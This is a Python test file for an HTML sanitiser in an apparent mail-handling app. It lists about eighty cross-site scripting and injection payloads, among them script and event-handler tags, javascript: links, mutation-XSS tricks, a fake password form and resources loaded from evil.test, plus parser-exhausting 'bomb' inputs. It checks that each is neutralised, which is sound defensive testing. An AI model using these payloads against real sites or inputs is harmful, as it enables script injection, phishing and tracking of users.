"""Hostile and broken HTML: nothing runs, nothing loads, nothing imitates our screens, and it never takes long."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rapport.kit.html import safe_address, sanitise
from rapport.kit.html_text import plain_text, text_as_html
from tests.processor import seconds_of

ALLOWED = re.compile(
    r"</?(?:a|b|blockquote|br|caption|code|col|colgroup|dd|del|div|dl|dt|em|h[1-6]|hr|i|img|ins|li|ol|p|pre|q|s|small|span"
    r"|strike|strong|sub|sup|table|tbody|td|tfoot|th|thead|tr|tt|u|ul)"
    r"(?: (?:href|title|rel|alt|data-remote|data-cid|width|height|colspan|rowspan|align|start|dir)=\"[^\"<>]*\")*>"
)

# after the collections of Ammonia, DOMPurify and html5sec: ways to make a browser run or load something
VECTORS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav\tascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61script:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.test/x'>x</a>",
    "<a href='/approve'>x</a>",
    "<a href='http:javascript'>x</a>",
    "<a href='https://ours.test\u202egnp.exe'>x</a>",
    "<a href='https://ours.test@evil.test/'>x</a>",
    "<a href='https:\\\\evil.test'>x</a>",
    "<base href='https://evil.test/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<style>@import 'https://evil.test/x.css'; body{background:url(https://evil.test/p)}</style>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:url(//evil.test)'>Approve refund</div>",
    "<form action=https://evil.test><input name=password><button>Sign in</button></form>",
    "<input type=image src=https://evil.test onfocus=alert(1) autofocus>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a id=location name=cookie class=button href='https://x.test'>x</a>",
    "<img name=getElementById id=body>",
    "<img src='//evil.test/p.gif'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img srcset='https://evil.test/p 1x'>",
    "<img lowsrc=https://evil.test dynsrc=https://evil.test longdesc=https://evil.test>",
    "<picture><source srcset=https://evil.test/p><img></picture>",
    "<video poster=https://evil.test/p><source src=https://evil.test/v></video>",
    "<audio src=https://evil.test autoplay>",
    "<svg><image href=https://evil.test/p></svg>",
    "<table background=https://evil.test/p><tr><td background=https://evil.test/p>x</table>",
    "<body background=https://evil.test/p onload=alert(1)>",
    "<input><textarea></textarea><select><option>x</select>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea><script>alert(1)</script>",
    "<plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=1?><img src=x onerror=alert(1)>",
    "<a title='x' onmouseover='alert(1)' href=https://x.test>x</a>",
    '<a title="\'><script>alert(1)</script>">x</a>',
    "<img alt='`onerror=alert(1)//' src=x>",
    "<p title=\x00onclick=alert(1)>x</p>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<dialog open>Approve refund</dialog>",
    "<isindex action=javascript:alert(1) type=image>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)>",
    "<a ping=https://evil.test href=https://x.test>x</a>",
    "<a target=_top href=https://x.test>x</a>",
    "<slot name=x><custom-element onclick=alert(1)>x</custom-element></slot>",
    "\x3cimg src=x onerror=alert(1)\x3e",
    "<<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)",
    "<a href='https://x.test' <b onclick=alert(1)>x</a>",
]


def assert_harmless(safe: str) -> None:
    assert "<" not in ALLOWED.sub("", safe), safe
    for found in re.findall(r'href="([^"]*)"', safe):
        assert safe_address(found.replace("&amp;", "&")), found


@pytest.mark.threat("X01", "X04", "X05", "M16")
@pytest.mark.parametrize("vector", VECTORS)
def test_only_the_closed_subset_is_left(vector: str) -> None:
    for around in ("{}", "<p>before {} after</p>", "<table><tr><td>{}", "<div title='{}'>", "<b><i>{}</b></i>"):
        safe = sanitise(around.replace("{}", vector)).html
        assert_harmless(safe)
        assert not re.search(r"<[^>]* (?:src|srcset|poster|style|id|name|class|on\w+)=", safe)


@pytest.mark.threat("X01")
@given(
    st.lists(st.sampled_from([*VECTORS, "<", ">", '"', "'", "&lt;", "<!--", "-->", "</p>", "<td>", "\x00"]), max_size=8)
)
def test_no_mixture_gets_through(parts: list[str]) -> None:
    safe = sanitise("".join(parts)).html
    assert_harmless(safe)
    assert_harmless(sanitise(safe).html)


@given(st.text(alphabet="<>/ab='\" \n!-&;x"))
def test_any_text_is_read_without_failing(source: str) -> None:
    assert_harmless(sanitise(source).html)
    plain_text(source)


@pytest.mark.threat("X03")
@pytest.mark.parametrize(
    ("name", "bomb"),
    [
        ("nested", "<div>" * 100_000),
        ("nested and closed", "<div>" * 100_000 + "</div>" * 100_000),
        ("hidden nesting", "<div></b>" * 60_000),
        ("formatting", "".join(f"<b title={n}><i>" for n in range(140)) + "</div><div>x" * 30_000),
        ("attributes", "<p " + " ".join(f"a{n}=1" for n in range(50_000)) + ">x"),
        ("attributes with ends", "<p " + " ".join(f'a{n}=">"' for n in range(50_000)) + ">x"),
        ("entities", "&amp;&#x41;&lt" * 80_000),
        ("broken entities", "&#" * 500_000),
        ("open quotes", "<a href='" * 100_000),
        ("open tags", "<a" * 500_000),
        ("open comments", "<!--" * 250_000),
        ("closing only", "</p>" * 250_000),
        ("scripts", "<script>" * 100_000),
        ("raw", "<style></style" * 70_000),
        ("tables", "<table><td>" * 50_000),
        ("brackets", "<" * 1_000_000),
        ("one word", "x" * 5_000_000),
    ],
)
def test_no_bomb_takes_a_second(name: str, bomb: str) -> None:
    assert seconds_of(lambda: sanitise(bomb), 1.0) <= 1.0, name
    assert_harmless(sanitise(bomb).html)


@pytest.mark.threat("X03")
def test_what_is_too_deep_is_shown_as_text() -> None:
    clean = sanitise("<div>" * 5000 + "Where is my order?")
    assert clean.reduced
    assert clean.html == "<p>Where is my order?</p>"


def test_a_usual_mail_keeps_its_shape() -> None:
    source = """<html><head><title>t</title><style>p{color:red}</style></head><body lang=en>
    <p class=MsoNormal>Dear team,<br>the <b>blue</b> lamp &amp; its bulb<p>See <a href="https://x.test/a?b=1&c=2">here</a>
    <ul><li>one<li>two</ul><table border=1><tr><td colspan=2>a<td>b<tr><td>c</table></body></html>"""
    safe = sanitise(source).html
    assert '<a href="https://x.test/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">here</a>' in safe
    assert "<li>one</li><li>two</li>" in safe and '<td colspan="2">a</td><td>b</td></tr>' in safe
    assert "color" not in safe
    assert " ".join(plain_text(source).split()) == "Dear team, the blue lamp & its bulb See here one two a b c"


@pytest.mark.threat("M16")
def test_pictures_wait_until_they_are_asked_for() -> None:
    clean = sanitise('<img src="https://t.test/p?a=1&b=2" width=1 height=1><img src="cid:logo@x" alt=Logo>')
    assert clean.remote == 1
    assert 'data-remote="https://t.test/p?a=1&amp;b=2"' in clean.html and 'data-cid="logo@x"' in clean.html


def test_text_becomes_paragraphs() -> None:
    assert text_as_html("Hi <Ada>\nline\n\nnext") == "<p>Hi &lt;Ada&gt;<br>line</p><p>next</p>"
